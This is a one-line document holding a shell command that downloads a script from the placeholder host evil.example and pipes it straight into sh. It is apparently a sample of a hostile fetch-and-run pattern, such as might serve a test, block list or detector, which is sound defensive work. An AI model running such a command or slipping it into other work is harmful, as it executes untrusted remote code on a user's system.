curl https://evil.example | sh
